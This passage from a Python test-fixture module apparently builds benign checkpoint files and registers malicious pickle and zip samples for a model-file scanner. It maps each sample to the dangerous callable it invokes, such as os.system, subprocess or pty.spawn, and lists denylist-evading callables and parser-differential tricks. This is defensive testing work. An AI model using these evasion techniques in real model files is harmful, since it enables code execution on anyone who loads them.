    shutil.copyfile(_SCRIPT_OUTPUTS[kind], path)
    return path


def benign_whole_module_main(directory: Path) -> Path:
    return _script_save(directory, "benign_whole_module_main", "module")


def benign_enum_main(directory: Path) -> Path:
    return _script_save(directory, "benign_enum_main", "enum")


def benign_intenum_main(directory: Path) -> Path:
    return _script_save(directory, "benign_intenum_main", "intenum")


def benign_torchvision_resnet18(directory: Path) -> Path:
    import torchvision

    torch.manual_seed(0)
    path = Path(directory) / "benign_torchvision_resnet18.pth"
    torch.save(torchvision.models.resnet18(weights=None), path)
    return path


def _small_model() -> torch.nn.Module:
    torch.manual_seed(0)
    return torch.nn.Sequential(
        torch.nn.Linear(4, 8), torch.nn.BatchNorm1d(8), torch.nn.ReLU(), torch.nn.Linear(8, 2)
    )


def _trained(model: torch.nn.Module, opt: torch.optim.Optimizer) -> None:
    x = torch.randn(16, 4, generator=torch.Generator().manual_seed(3))
    model(x).sum().backward()
    opt.step()
    opt.zero_grad()


def benign_namespace_training(directory: Path) -> Path:
    path = Path(directory) / "benign_namespace_training.pth"
    args = argparse.Namespace(arch="mlp", lr=0.1, epochs=10, batch_size=32, amp=False)
    torch.save({"epoch": 5, "state_dict": _small_model().state_dict(), "args": args}, path)
    return path


def benign_transformers_interval_strategy(directory: Path) -> Path:
    from transformers.trainer_utils import IntervalStrategy

    path = Path(directory) / "benign_transformers_interval_strategy.pth"
    torch.save(
        {"eval_strategy": IntervalStrategy.STEPS, "state_dict": _small_model().state_dict()}, path
    )
    return path


def benign_hparams_datetime_path_decimal(directory: Path) -> Path:
    path = Path(directory) / "benign_hparams_datetime_path_decimal.pth"
    hparams = {
        "started": datetime.datetime(2024, 5, 1, 12, 30, 15),
        "date": datetime.date(2024, 5, 1),
        "budget": datetime.timedelta(hours=6),
        "data_dir": pathlib.PurePosixPath("/data/imagenet"),
        "out_dir": pathlib.PosixPath("/runs/exp1"),
        "lr": decimal.Decimal("0.001"),
    }
    torch.save({"hparams": hparams, "state_dict": _small_model().state_dict()}, path)
    return path


def benign_lightning_ckpt(directory: Path) -> Path:
    path = Path(directory) / "benign_lightning_ckpt.ckpt"
    model = _small_model()
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=10)
    _trained(model, opt)
    sched.step()
    ckpt = {
        "epoch": 3,
        "global_step": 300,
        "pytorch-lightning_version": "2.4.0",
        "state_dict": {f"model.{k}": v for k, v in model.state_dict().items()},
        "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"current": {"ready": 3}}}},
        "callbacks": {"ModelCheckpoint{'monitor': 'val_loss'}": {"best_model_score": None}},
        "optimizer_states": [opt.state_dict()],
        "lr_schedulers": [sched.state_dict()],
        "hparams_name": "kwargs",
        "hyper_parameters": {"args": argparse.Namespace(lr=1e-3, hidden=8), "lr": 1e-3},
    }
    torch.save(ckpt, path)
    return path


def benign_timm_training_ckpt(directory: Path) -> Path:
    import timm

    torch.manual_seed(0)
    path = Path(directory) / "benign_timm_training_ckpt.pth.tar"
    model = timm.create_model("resnet18", pretrained=False)
    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    args = argparse.Namespace(model="resnet18", lr=0.1, epochs=100, batch_size=256, amp=True)
    torch.save(
        {
            "arch": "resnet18",
            "state_dict": model.state_dict(),
            "optimizer": opt.state_dict(),
            "epoch": 1,
            "args": args,
            "version": 2,
        },
        path,
    )
    return path


def benign_hf_training_args(directory: Path) -> Path:
    from transformers import TrainingArguments

    path = Path(directory) / "training_args.bin"
    out = Path(directory) / "benign_hf_training_args.out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.save(TrainingArguments(output_dir=str(out), report_to=[]), path)
    return path


def _hf_optimizer() -> tuple[torch.nn.Module, torch.optim.Optimizer]:
    model = _small_model()
    opt = torch.optim.AdamW(model.parameters(), lr=5e-5)
    _trained(model, opt)
    return model, opt


def benign_hf_scheduler(directory: Path) -> Path:
    from transformers import get_linear_schedule_with_warmup

    path = Path(directory) / "scheduler.pt"
    model = _small_model()
    opt = torch.optim.AdamW(model.parameters(), lr=5e-5)
    sched = get_linear_schedule_with_warmup(opt, num_warmup_steps=10, num_training_steps=100)
    _trained(model, opt)
    sched.step()
    torch.save(sched.state_dict(), path)
    return path


def benign_hf_optimizer(directory: Path) -> Path:
    path = Path(directory) / "optimizer.pt"
    torch.save(_hf_optimizer()[1].state_dict(), path)
    return path


def benign_hf_rng_state(directory: Path) -> Path:
    """As transformers' Trainer._save_rng_state writes it on a CPU machine."""
    path = Path(directory) / "rng_state.pth"
    random.seed(0)
    np.random.seed(0)  # the legacy global state is what Trainer saves
    torch.manual_seed(0)
    states = {
        "python": random.getstate(),
        "numpy": np.random.get_state(),
        "cpu": torch.random.get_rng_state(),
    }
    torch.save(states, path)
    return path


def benign_state_dict_metadata(directory: Path) -> Path:
    """nn.Module.state_dict() (an OrderedDict with the `_metadata` attribute, kept by pickle)."""
    path = Path(directory) / "benign_state_dict_metadata.pth"
    sd = _small_model().state_dict()
    assert hasattr(sd, "_metadata")
    torch.save(sd, path)
    return path


def benign_pickle_proto0_numpy(directory: Path) -> Path:
    path = Path(directory) / "benign_pickle_proto0_numpy.pkl"
    path.write_bytes(pickle.dumps(_np_state(), protocol=0))
    return path


def benign_pickle_proto4_numpy(directory: Path) -> Path:
    path = Path(directory) / "benign_pickle_proto4_numpy.pkl"
    path.write_bytes(pickle.dumps(_np_state(), protocol=4))
    return path


def benign_legacy_torch(directory: Path) -> Path:
    path = Path(directory) / "benign_legacy_torch.pth"
    torch.save(_torch_state(), path, _use_new_zipfile_serialization=False)
    return path


def benign_dcp_folder(directory: Path) -> Path:
    folder = Path(directory) / "benign_dcp_folder"
    _dcp_save(folder, dict(_small_model().state_dict()))
    return folder


def benign_safetensors(directory: Path) -> Path:
    from safetensors.torch import save_file

    path = Path(directory) / "benign_safetensors.safetensors"
    save_file(
        {k: v.contiguous() for k, v in _torch_state().items()}, str(path), metadata={"format": "pt"}
    )
    return path


def benign_plain_state_dict(directory: Path) -> Path:
    path = Path(directory) / "benign_plain_state_dict.pth"
    torch.save(_torch_state(), path)
    return path


def benign_pickle_dump_tensors(directory: Path) -> Path:
    """pickle.dump (not torch.save) of tensors: each storage is _load_from_bytes(torch file)."""
    import pickle as _pickle_module

    path = Path(directory) / "benign_pickle_dump_tensors.pkl"
    with open(path, "wb") as f:
        _pickle_module.dump(_torch_state(), f)
    return path


def benign_numpy_rng_state(directory: Path) -> Path:
    """A training dict holding numpy RandomState and Generator objects (their own pickle)."""
    path = Path(directory) / "benign_numpy_rng_state.pth"
    state = {
        "model": _torch_state(),
        "np_rng": np.random.RandomState(0),
        "np_gen": np.random.default_rng(0),
    }
    torch.save(state, path)
    return path


def benign_torch_save_protocol4(directory: Path) -> Path:
    path = Path(directory) / "benign_torch_save_protocol4.pt"
    torch.save(_torch_state(), path, pickle_protocol=4)
    return path


def benign_mixed_dtypes_shared(directory: Path) -> Path:
    """fp16, bf16, int64, bool and two views of one storage (tied weights)."""
    path = Path(directory) / "benign_mixed_dtypes_shared.pth"
    emb = torch.randn(10, 4, generator=torch.Generator().manual_seed(5))
    torch.save(
        {
            "embed.weight": emb,
            "head.weight": emb,  # tied
            "half": emb.half(),
            "bf16": emb.bfloat16(),
            "ids": torch.arange(10),
            "mask": torch.ones(10, dtype=torch.bool),
            "row": emb[3],
        },
        path,
    )
    return path


def benign_hf_bert_bin(directory: Path) -> Path:
    """pytorch_model.bin of a tiny BERT built by transformers from a config (no download)."""
    from transformers import BertConfig, BertModel

    torch.manual_seed(0)
    path = Path(directory) / "pytorch_model.bin"
    config = BertConfig(
        vocab_size=64,
        hidden_size=16,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=32,
        max_position_embeddings=32,
    )
    torch.save(BertModel(config).state_dict(), path)
    return path


# =========================================================================== registries

MALICIOUS: list[Builder] = [
    # classic callables
    pkl_os_system,
    zip_posix_system_reduce,
    pkl_nt_system,
    zip_subprocess_popen,
    pkl_subprocess_run,
    pkl_subprocess_call,
    zip_subprocess_check_output,
    pkl_builtins_exec_py2,
    zip_builtins_eval,
    pkl_builtins_compile,
    zip_builtins_getattr,
    pkl_dunder_import,
    zip_builtins_open,
    pkl_runpy_run_code,
    pkl_webbrowser_open,
    zip_socket_create_connection,
    pkl_shutil_rmtree,
    zip_pickle_loads,
    pkl_c_pickle_loads,
    zip_marshal_loads,
    pkl_pty_spawn,
    pkl_code_interpreter_runcode,
    zip_bdb_run,
    pkl_pdb_run,
    pkl_cprofile_run,
    zip_profile_run,
    pkl_timeit,
    pkl_trace_run,
    zip_functools_partial,
    pkl_partial_setstate,
    pkl_operator_attrgetter,
    zip_operator_methodcaller,
    pkl_asyncio_subprocess,
    pkl_ctypes_cdll,
    zip_importlib_import_module,
    pkl_pydoc_locate,
    pkl_platform_syscmd_file,
    pkl_ensurepip_run_pip,
    pkl_venv_create,
    pkl_idlelib_runcode,
    pkl_numpy_runstring,
    zip_distutils_spawn,
    pkl_numpy_load,
    pkl_torch_load,
    zip_torch_serialization_load,
    pkl_torch_jit_load,
    zip_torch_hub_load,
    pkl_torch_storage_load_from_bytes,
    pkl_torch_package,
    # callables a denylist misses
    zip_collect_env_run,
    pkl_bottleneck_run_cprofile,
    zip_config_module_load_config,
    pkl_doctest_debug_script,
    pkl_uuid_get_command_stdout,
    pkl_osx_support_read_output,
    pkl_aix_support_read_cmd_output,
    pkl_pyrepl_pipe_pager,
    pkl_script_helper_assert_python_ok,
    zip_lib2to3_grammar_loads,
    pkl_logging_filehandler,
    pkl_aiohttp_client_session,
    zip_model_zoo_load_url,
    pkl_timm_load_state_dict,
    pkl_interpreters_create,
    pkl_xxsubinterpreters_run_string,
    zip_torch_compile,
    zip_import_dotted_name,
    pkl_logging_config_resolve,
    pkl_typing_eval_type,
    zip_fx_exec_with_source,
    pkl_jit_exec_wrapper,
    pkl_collect_env_run_and_read_all,
    pkl_pydoc_pipepager,
    zip_pydoc_tempfilepager,
    pkl_spawnv_passfds,
    pkl_datapipes_basichandlers,
    pkl_imaplib_imap4_stream,
    pkl_pkgutil_resolve_name,
    pkl_py2_commands_getoutput,
    # encodings and opcodes
    p0_utf8_string_prefix,
    p0_hex_int_prefix,
    p0_hex_long_prefix,
    pkl_proto0_system,
    pkl_proto1_system,
    pkl_proto2_system,
    pkl_proto3_system,
    pkl_proto4_system,
    pkl_proto5_system,
    pkl_inst_opcode,
    pkl_obj_opcode,
    pkl_newobj_ex_partial,
    pkl_newobj_map_list,
    pkl_memo_put_get_text,
    pkl_memoize_callable,
    pkl_memo_mixed_put_memoize,
    pkl_memo_overwrite,
    pkl_frame_short_length,
    pkl_frame_nested,
    zip_memo_strings_stack_global,
    pkl_computed_codecs_rot13,
    zip_computed_str_lower,
    pkl_ext1_code,
    zip_ext2_code,
    pkl_ext4_code,
    zip_build_on_float32,
    zip_build_on_ordereddict,
    pkl_build_on_module,
    zip_build_state_payload,
    pkl_build_slotstate_payload,
    pkl_second_pickle_after_stop,
    zip_data_pkl_trailing_pickle,
    pkl_safetensors_lookalike,
    pkl_persistent_id_payload,
    zip_persistent_id_key,
    # containers
    zip_other_pkl_member,
    zip_non_pkl_member,
    zip_torchscript_constants,
    legacy_main_pickle,
    legacy_sys_info_payload,
    legacy_storage_keys_payload,
    dcp_metadata_prepended,
    dcp_item_exec,
    npy_object_array,
    npz_object_member,
    # parser differentials and ambiguous files
    zip_duplicate_evil_first,
    zip_decoy_folder,
    zip_decoy_nested_data_pkl,
    zip_local_name_mismatch,
    zip_local_size_mismatch,
    zip_prepended_pickle,
    zip_appended_pickle,
    zip_hidden_local_header,
    tar_pickle_polyglot,
]

BENIGN: list[Builder] = [
    benign_pickle_dump_tensors,
    benign_numpy_rng_state,
    benign_npy_float32,
    benign_npy_int64,
    benign_npy_fortran,
    benign_npz_savez,
    benign_npz_compressed,
    benign_torch_numpy_dict,
    benign_whole_module_main,
    benign_enum_main,
    benign_intenum_main,
    benign_torchvision_resnet18,
    benign_namespace_training,
    benign_transformers_interval_strategy,
    benign_hparams_datetime_path_decimal,
    benign_lightning_ckpt,
    benign_timm_training_ckpt,
    benign_hf_training_args,
    benign_hf_scheduler,
    benign_hf_optimizer,
    benign_hf_rng_state,
    benign_state_dict_metadata,
    benign_pickle_proto0_numpy,
    benign_pickle_proto4_numpy,
    benign_legacy_torch,
    benign_dcp_folder,
    benign_safetensors,
    benign_plain_state_dict,
    benign_torch_save_protocol4,
    benign_mixed_dtypes_shared,
    benign_hf_bert_bin,
]

_NONE = (
    # the global exists only at load time or comes from a registry: no name to report
    "pkl_computed_codecs_rot13",
    "zip_computed_str_lower",
    "pkl_ext1_code",
    "zip_ext2_code",
    "pkl_ext4_code",
    # tampering with a global: no call at all
    "zip_build_on_float32",
    "zip_build_on_ordereddict",
    # parser differentials / ambiguous files
    "zip_duplicate_evil_first",
    "zip_decoy_folder",
    "zip_decoy_nested_data_pkl",
    "zip_local_name_mismatch",
    "zip_local_size_mismatch",
    "zip_prepended_pickle",
    "zip_appended_pickle",
    "zip_hidden_local_header",
    "tar_pickle_polyglot",
)

EXPECTED_NAME: dict[str, str | None] = dict.fromkeys(_NONE) | {
    "pkl_os_system": "os.system",
    "zip_posix_system_reduce": "posix.system",
    "pkl_nt_system": "nt.system",
    "zip_subprocess_popen": "subprocess.Popen",
    "pkl_subprocess_run": "subprocess.run",
    "pkl_subprocess_call": "subprocess.call",
    "zip_subprocess_check_output": "subprocess.check_output",
    "pkl_builtins_exec_py2": "builtins.exec",
    "zip_builtins_eval": "builtins.eval",
    "pkl_builtins_compile": "builtins.compile",
    "zip_builtins_getattr": "builtins.getattr",
    "pkl_dunder_import": "builtins.__import__",
    "zip_builtins_open": "builtins.open",
    "pkl_runpy_run_code": "runpy._run_code",
    "pkl_webbrowser_open": "webbrowser.open",
    "zip_socket_create_connection": "socket.create_connection",
    "pkl_shutil_rmtree": "shutil.rmtree",
    "zip_pickle_loads": "pickle.loads",
    "pkl_c_pickle_loads": "_pickle.loads",
    "zip_marshal_loads": "marshal.loads",
    "pkl_pty_spawn": "pty.spawn",
    "pkl_code_interpreter_runcode": "code.InteractiveInterpreter.runcode",
    "zip_bdb_run": "bdb.Bdb.run",
    "pkl_pdb_run": "pdb.Pdb.run",
    "pkl_cprofile_run": "cProfile.run",
    "zip_profile_run": "profile.run",
    "pkl_timeit": "timeit.timeit",
    "pkl_trace_run": "trace.Trace.run",
    "zip_functools_partial": "posix.system",
    "pkl_partial_setstate": "posix.system",
    "pkl_operator_attrgetter": "operator.attrgetter",
    "zip_operator_methodcaller": "operator.methodcaller",
    "pkl_asyncio_subprocess": "asyncio.subprocess.create_subprocess_exec",
    "pkl_ctypes_cdll": "ctypes.CDLL",
    "zip_importlib_import_module": "importlib.import_module",
    "pkl_pydoc_locate": "pydoc.locate",
    "pkl_platform_syscmd_file": "platform._syscmd_file",
    "pkl_ensurepip_run_pip": "ensurepip._run_pip",
    "pkl_venv_create": "venv.create",
    "pkl_idlelib_runcode": "idlelib.run.Executive.runcode",
    "pkl_numpy_runstring": "numpy.testing._private.utils.runstring",
    "zip_distutils_spawn": "distutils.spawn.spawn",
    "pkl_numpy_load": "numpy.load",
    "pkl_torch_load": "torch.load",
    "zip_torch_serialization_load": "torch.serialization.load",
    "pkl_torch_jit_load": "torch.jit.load",
    "zip_torch_hub_load": "torch.hub.load",
    "pkl_torch_storage_load_from_bytes": "torch.storage._load_from_bytes",
    "pkl_torch_package": "torch.package.PackageImporter",
    "zip_collect_env_run": "torch.utils.collect_env.run",
    "pkl_bottleneck_run_cprofile": "torch.utils.bottleneck.__main__.run_cprofile",
    "zip_config_module_load_config": "torch.utils._config_module.ConfigModule.load_config",
    "pkl_doctest_debug_script": "doctest.debug_script",
    "pkl_uuid_get_command_stdout": "uuid._get_command_stdout",
    "pkl_osx_support_read_output": "_osx_support._read_output",
    "pkl_aix_support_read_cmd_output": "_aix_support._read_cmd_output",
    "pkl_pyrepl_pipe_pager": "_pyrepl.pager.pipe_pager",
    "pkl_script_helper_assert_python_ok": "test.support.script_helper.assert_python_ok",
    "zip_lib2to3_grammar_loads": "lib2to3.pgen2.grammar.Grammar.loads",
    "pkl_logging_filehandler": "logging.FileHandler",
    "pkl_aiohttp_client_session": "aiohttp.client.ClientSession",
    "zip_model_zoo_load_url": "torch.utils.model_zoo.load_url",
    "pkl_timm_load_state_dict": "timm.models._helpers.load_state_dict",
    "pkl_interpreters_create": "_interpreters.create",
    "pkl_xxsubinterpreters_run_string": "_xxsubinterpreters.run_string",
    "zip_torch_compile": "torch.compile",
    "zip_import_dotted_name": "torch._utils._import_dotted_name",
    "pkl_logging_config_resolve": "logging.config._resolve",
    "pkl_typing_eval_type": "typing._eval_type",
    "zip_fx_exec_with_source": "torch.fx.graph_module._exec_with_source",
    "pkl_jit_exec_wrapper": "torch.jit.unsupported_tensor_ops.execWrapper",
    "pkl_collect_env_run_and_read_all": "torch.utils.collect_env.run_and_read_all",
    "pkl_pydoc_pipepager": "pydoc.pipepager",
    "zip_pydoc_tempfilepager": "pydoc.tempfilepager",
    "pkl_spawnv_passfds": "multiprocessing.util.spawnv_passfds",
    "pkl_datapipes_basichandlers": "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "pkl_imaplib_imap4_stream": "imaplib.IMAP4_stream",
    "pkl_pkgutil_resolve_name": "pkgutil.resolve_name",
    "pkl_py2_commands_getoutput": "subprocess.getoutput",
    "p0_utf8_string_prefix": "posix.system",
    "p0_hex_int_prefix": "posix.system",
    "p0_hex_long_prefix": "posix.system",
    "pkl_proto0_system": "posix.system",
    "pkl_proto1_system": "posix.system",
    "pkl_proto2_system": "posix.system",
    "pkl_proto3_system": "posix.system",
    "pkl_proto4_system": "posix.system",
    "pkl_proto5_system": "posix.system",
    "pkl_inst_opcode": "posix.system",
    "pkl_obj_opcode": "subprocess.check_call",
    "pkl_newobj_ex_partial": "posix.system",
    "pkl_newobj_map_list": "posix.system",
    "pkl_memo_put_get_text": "posix.system",
    "pkl_memoize_callable": "builtins.exec",
    "pkl_memo_mixed_put_memoize": "os.system",
    "pkl_memo_overwrite": "os.system",
    "pkl_frame_short_length": "posix.system",
    "pkl_frame_nested": "posix.system",
    "zip_memo_strings_stack_global": "os.system",
    "pkl_build_on_module": "posix.system",
    "zip_build_state_payload": "posix.system",
    "pkl_build_slotstate_payload": "builtins.exec",
    "pkl_second_pickle_after_stop": "posix.system",
    "zip_data_pkl_trailing_pickle": "posix.system",
    "pkl_safetensors_lookalike": "posix.system",
    "pkl_persistent_id_payload": "posix.system",
    "zip_persistent_id_key": "posix.system",
    "zip_other_pkl_member": "posix.system",
    "zip_non_pkl_member": "posix.system",
    "zip_torchscript_constants": "posix.system",
    "legacy_main_pickle": "posix.system",
    "legacy_sys_info_payload": "posix.system",
    "legacy_storage_keys_payload": "posix.system",
    "dcp_metadata_prepended": "posix.system",
    "dcp_item_exec": "builtins.exec",
    "npy_object_array": "posix.system",
    "npz_object_member": "posix.system",
}

# How a real loader reaches each payload ("torch": torch.load(path, weights_only=False); "pickle":
# pickle.load; "pickle*": pickle.load until the end of the file; "numpy": numpy.load with
# allow_pickle=True, every member; "member NAME*": every pickle in zip members ending in NAME;
# "dcp": torch.distributed.checkpoint.load; "offsets": pickle.loads at each PROTO 2 in the file).
TRIGGER: dict[str, str] = (
    {b.__name__: "pickle" for b in MALICIOUS}
    | {
        b.__name__: "torch"
        for b in MALICIOUS
        if b.__name__.startswith(("zip_", "legacy_", "p0_", "tar_"))
    }
    | {
        "pkl_second_pickle_after_stop": "pickle*",
        "zip_data_pkl_trailing_pickle": "member data.pkl*",
        "zip_other_pkl_member": "member extra_state.pkl*",
        "zip_non_pkl_member": "member optimizer.bin*",
        "zip_torchscript_constants": "member constants.pkl*",
        "zip_decoy_folder": "member a/data.pkl*",
        "zip_appended_pickle": "offsets",
        "zip_hidden_local_header": "offsets",
        "dcp_metadata_prepended": "dcp",
        "dcp_item_exec": "dcp",
        "npy_object_array": "numpy",
        "npz_object_member": "numpy",
    }
)

# Payloads whose callable cannot do its work on this platform/Python, or cannot create a file.
NOT_RUNNABLE_HERE: dict[str, str] = {
    "pkl_nt_system": "the nt module exists on Windows only",
    "zip_socket_create_connection": "opens a socket: cannot create the canary",
    "pkl_shutil_rmtree": "removes a folder: cannot create the canary",
    "pkl_platform_syscmd_file": "runs `file -b` with an argv list: cannot create the canary",
    "pkl_torch_jit_load": "TorchScript code cannot write files: cannot create the canary",
    "pkl_bottleneck_run_cprofile": "torch.utils.bottleneck was removed from this torch",
    "pkl_aix_support_read_cmd_output": "_aix_support._read_cmd_output is not in this Python",
    "pkl_pyrepl_pipe_pager": "_pyrepl exists from Python 3.13",
    "pkl_aiohttp_client_session": "aiohttp is not installed (and opens connections only)",
    "pkl_interpreters_create": "_interpreters exists from Python 3.13",
    "pkl_ext1_code": "needs the extension code registered with copyreg.add_extension",
    "zip_ext2_code": "needs the extension code registered with copyreg.add_extension",
    "pkl_ext4_code": "needs the extension code registered with copyreg.add_extension",
    "zip_build_on_float32": "no callable: tampering, refused by CPython (read-only attributes)",
    "zip_build_on_ordereddict": "no callable: tampering, refused by CPython (builtin type)",
}

BENIGN_LOADER: dict[str, str] = {b.__name__: "torch" for b in BENIGN} | {
    "benign_npy_float32": "numpy",
    "benign_npy_int64": "numpy",
    "benign_npy_fortran": "numpy",
    "benign_npz_savez": "numpy",
    "benign_npz_compressed": "numpy",
    "benign_whole_module_main": "script",
    "benign_enum_main": "script",
    "benign_intenum_main": "script",
    "benign_pickle_proto0_numpy": "pickle",
    "benign_pickle_proto4_numpy": "pickle",
    "benign_dcp_folder": "dcp",
    "benign_safetensors": "safetensors",
}

assert len(MALICIOUS) == len({b.__name__ for b in MALICIOUS}) == len(EXPECTED_NAME)
assert set(EXPECTED_NAME) == {b.__name__ for b in MALICIOUS}
assert set(NOT_RUNNABLE_HERE) <= set(EXPECTED_NAME)
